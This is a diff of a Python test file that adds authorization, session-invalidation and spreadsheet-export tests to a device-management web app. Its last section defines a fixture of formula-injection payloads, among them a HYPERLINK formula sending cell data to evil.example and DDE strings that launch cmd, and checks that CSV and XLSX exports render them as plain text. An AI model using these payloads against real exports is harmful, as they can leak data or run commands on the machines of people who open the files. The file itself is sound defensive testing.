@@ -54,12 +54,111 @@ def report_command(url: str, first: date, last: date, fmt: str, tmp_path) -> byt
 
 
 # --- access -----------------------------------------------------------------------------------
-def test_every_page_asks_for_a_login_first(app):
+# Answer without a session: the login page and form, the style sheet and icon, and /metrics
+# (Prometheus scrapes it; it holds counts, no names of people). Every other route of the app,
+# whatever its method, must refuse an anonymous request: a route added later is walked too.
+PUBLIC = {("/login", "GET"), ("/login", "POST"), ("/static", "GET"), ("/favicon.ico", "GET"), ("/metrics", "GET")}
+SAMPLE_PARAMS = {"unit": "phuong-bach-mai", "device": "hbt-bach-mai-01", "verb": "play-now"}
+STATIC_SAMPLE = "style.css"
+
+
+def every_route(app) -> list[tuple[str, str, str]]:
+    """(route pattern, method, a concrete path) for every route and method of the app."""
+    from starlette.routing import Mount, Route
+
+    walked = []
+    for route in app.routes:
+        if isinstance(route, Mount):
+            walked.append((route.path, "GET", f"{route.path}/{STATIC_SAMPLE}"))
+            continue
+        assert isinstance(route, Route), f"a route of a kind this test does not know: {route!r}"
+        missing = set(route.param_convertors) - set(SAMPLE_PARAMS)
+        assert not missing, f"{route.path}: give SAMPLE_PARAMS a value for {missing}"
+        path = route.path_format.format(**{k: SAMPLE_PARAMS[k] for k in route.param_convertors})
+        walked += [(route.path, method, path) for method in sorted(route.methods - {"HEAD"})]
+    return walked
+
+
+def test_every_route_but_the_public_ones_refuses_an_anonymous_request(app):
+    walked = every_route(app)
+    patterns = {(p, m) for p, m, _ in walked}
+    assert {("/fleet.csv", "GET"), ("/fleet.xlsx", "GET"), ("/compliance.xlsx", "GET"), ("/compliance.csv", "GET"),
+            ("/devices/{device}/{verb}", "POST"), ("/logout", "POST"), ("/", "GET")} <= patterns
+    assert PUBLIC <= patterns, "a public route listed here is gone: update PUBLIC"
     with TestClient(app) as client:
-        for path in ("/compliance", "/units/phuong-bach-mai", "/fleet", "/compliance.csv", "/fleet.xlsx",
-                     "/snapshots/hbt-bach-mai-01.png"):
-            r = client.get(path, follow_redirects=False)
-            assert r.status_code == 303 and r.headers["location"].startswith("/login?next="), path
+        for pattern, method, path in walked:
+            r = client.request(method, path, follow_redirects=False, data={"csrf": "x"} if method == "POST" else None)
+            if (pattern, method) in PUBLIC:
+                assert r.status_code < 500, (method, path)
+                continue
+            refused = (r.status_code == 303 and r.headers["location"].startswith("/login?next=")) \
+                or r.status_code in (401, 403)
+            assert refused, f"{method} {path} answered {r.status_code} without a session"
+            assert "Tuân thủ" not in r.text and "Thiết bị" not in r.text, (method, path)
+
+
+def test_behind_the_proxy_every_route_but_the_public_ones_needs_the_proxys_user(district, registry, users, tmp_path):
+    app = make_app(tmp_path, district, registry, users, auth="proxy")
+    with TestClient(app) as client:
+        for pattern, method, path in every_route(app):
+            if (pattern, method) in PUBLIC:
+                continue
+            r = client.request(method, path, follow_redirects=False, data={"csrf": "x"} if method == "POST" else None,
+                               headers={"X-Remote-User": "stranger"})
+            assert r.status_code == 403, (method, path, r.status_code)
+
+
+def test_a_viewer_may_read_every_page_but_send_nothing(viewer, app):
+    for pattern, method, path in every_route(app):
+        if (pattern, method) in PUBLIC or pattern in ("/logout", "/snapshots/{device}.png"):
+            continue
+        r = viewer.request(method, path, follow_redirects=False, data={"csrf": "x"} if method == "POST" else None)
+        assert r.status_code == (403 if method == "POST" else 200) or (pattern == "/" and r.status_code == 303), \
+            (method, path, r.status_code)
+
+
+def test_a_cookie_copied_before_logout_does_not_work_after_it(app):
+    with TestClient(app) as owner, TestClient(app) as copy:
+        log_in(owner, "vanhoa")
+        copy.cookies.set("ihanoi_session", owner.cookies.get("ihanoi_session"))
+        assert copy.get("/compliance", follow_redirects=False).status_code == 200    # the copy works, until:
+        page = owner.get("/compliance").text
+        assert owner.post("/logout", data={"csrf": csrf_of(page)}, follow_redirects=False).status_code == 303
+        assert copy.get("/compliance", follow_redirects=False).status_code == 303
+        assert copy.get("/fleet.csv", follow_redirects=False).status_code == 303
+
+
+def test_a_password_change_in_the_users_file_ends_that_users_sessions_only(district, registry, tmp_path):
+    import os
+
+    from broker.web.users import hash_password, load_users
+
+    kythuat_hash = hash_password(PASSWORDS["kythuat"])    # unchanged throughout
+
+    def write(vanhoa_password: str) -> None:
+        tmp = tmp_path / "users.toml.new"
+        tmp.write_text(f'[[user]]\nname = "vanhoa"\nrole = "viewer"\npassword = "{hash_password(vanhoa_password)}"\n'
+                       f'[[user]]\nname = "kythuat"\nrole = "operator"\npassword = "{kythuat_hash}"\n',
+                       encoding="utf-8")
+        os.replace(tmp, tmp_path / "users.toml")       # as ansible's template module replaces a file
+
+    def sign_in(client, name, password) -> int:
+        page = client.get("/login").text
+        return client.post("/login", data={"username": name, "password": password, "csrf": csrf_of(page)},
+                           follow_redirects=False).status_code
+
+    write(PASSWORDS["vanhoa"])
+    app = make_app(tmp_path, district, registry, load_users(tmp_path / "users.toml"))
+    with TestClient(app) as vanhoa, TestClient(app) as kythuat:
+        assert sign_in(vanhoa, "vanhoa", PASSWORDS["vanhoa"]) == 303
+        assert sign_in(kythuat, "kythuat", PASSWORDS["kythuat"]) == 303
+        write("mat-khau-moi-2024")
+        assert vanhoa.get("/compliance", follow_redirects=False).status_code == 303
+        assert kythuat.get("/compliance", follow_redirects=False).status_code == 200
+        write(PASSWORDS["vanhoa"])                          # even the old password back: that session is over
+        assert vanhoa.get("/compliance", follow_redirects=False).status_code == 303
+        assert sign_in(vanhoa, "vanhoa", PASSWORDS["vanhoa"]) == 303
+        assert vanhoa.get("/compliance", follow_redirects=False).status_code == 200
 
 
 def test_a_wrong_password_is_refused_in_vietnamese(app):
@@ -306,3 +405,71 @@ def test_guessing_passwords_locks_the_name_for_a_while(district, registry, users
         assert r.status_code == 429 and "tạm khóa" in r.text
         clock.advance(16 * 60)
         assert attempt(client, PASSWORDS["kythuat"]).status_code == 303
+
+
+# --- what boards send is text in every spreadsheet, never a formula ------------------------------
+HOSTILE_TEXT = {"content_version": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+                "software_version": "+cmd|' /C calc'!A0", "content_id": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+@pytest.fixture(scope="module")
+def hostile_app(tmp_path_factory, registry, users):
+    """A district store where one board (hbt-bach-mai-01) reports versions that are formulas,
+    sent as a board sends them and taken in by the collector's own path."""
+    from broker.collector.batch import Incoming, prepare
+    from ihanoi.contract import protocol
+    from ihanoi.tools.sample_district import simulate_district
+
+    tmp = tmp_path_factory.mktemp("hostile-web")
+    url = f"sqlite:///{tmp / 'store.sqlite3'}"
+    store = open_store(url)
+    simulate_district(store, registry, FIRST, LAST, NOW, ["phuong-bach-mai", "phuong-bach-dang"])
+    topics = protocol.Topics()
+    beat = protocol.Health(device="hbt-bach-mai-01", time=NOW - timedelta(seconds=20), uptime_s=60.0,
+                           outbox_depth=0, outbox_dropped=0, clock_synced=True, **HOSTILE_TEXT)
+    state = protocol.State(device="hbt-bach-mai-01", state="online", since=NOW - timedelta(seconds=10),
+                           software_version="-2+3", content_version="\t=1+1")
+    batch = [Incoming(topics.up(m.device, kind), m.to_json(), 1, 1, 0)
+             for kind, m in (("health", beat), ("state", state))]
+    p = prepare(batch, topics, registry, NOW)
+    assert not p.quarantined, "the protocol accepts such text: the exports must make it harmless"
+    store.write_batch(p.events, p.quarantined, list(p.seen.values()), list(p.health_states.values()),
+                      list(p.states.values()))
+    store.close()
+    return make_app(tmp, url, registry, users)
+
+
+def formula_cells(content: bytes) -> list[str]:
+    wb = load_workbook(io.BytesIO(content))
+    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+def text_cells(content: bytes) -> list:
+    wb = load_workbook(io.BytesIO(content))
+    return [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+def test_a_boards_formula_is_text_in_the_fleet_csv(hostile_app):
+    with TestClient(hostile_app) as client:
+        log_in(client, "vanhoa")
+        text = client.get("/fleet.csv").content.decode("utf-8-sig")
+    rows = {r["Thiết bị"]: r for r in csv.DictReader(io.StringIO(text))}
+    board = rows["hbt-bach-mai-01"]
+    assert board["Phiên bản nội dung"] == "'\t=1+1"                     # the state's, newest
+    assert board["Phiên bản phần mềm"] == "'-2+3"
+    for cell in (v for r in csv.reader(io.StringIO(text)) for v in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert any("mới nhất: \t=1+1" in r["Ghi chú"] for r in rows.values())   # named in a note, as text
+
+
+@pytest.mark.parametrize("path", ["/fleet.xlsx", f"/compliance.xlsx?from={FIRST:%d/%m/%Y}&to={LAST:%d/%m/%Y}"])
+def test_a_boards_formula_is_text_in_every_workbook(hostile_app, path):
+    with TestClient(hostile_app) as client:
+        log_in(client, "vanhoa")
+        content = client.get(path).content
+    assert formula_cells(content) == []
+    risky = [c for c in text_cells(content) if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert risky, "the board's text is in the workbook, unchanged"
+    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
+
